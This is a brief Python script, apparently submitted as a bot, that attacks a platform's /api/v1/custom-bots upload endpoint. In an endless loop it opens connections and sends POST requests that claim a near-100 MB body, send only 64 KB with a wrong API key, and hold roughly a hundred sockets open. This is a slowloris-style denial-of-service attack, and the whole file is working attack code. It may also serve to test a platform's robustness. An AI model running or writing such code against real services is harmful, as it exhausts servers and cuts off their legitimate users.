# Begins uploads that never end.
import json
import os
import socket
import time
from urllib.parse import urlsplit

at = urlsplit(json.loads(os.environ["BOT_CONFIG"])["url"])
head = b"POST /api/v1/custom-bots HTTP/1.1\r\nHost: platform\r\nContent-Length: 99999999\r\n"
kept = []
while True:
    try:
        one = socket.create_connection((at.hostname, at.port))
        one.sendall(head + b"Content-Type: application/gzip\r\nAuthorization: ApiKey wrong\r\n\r\n" + b"x" * 65536)
        kept = [*kept[-100:], one]
    except OSError:
        time.sleep(0.01)
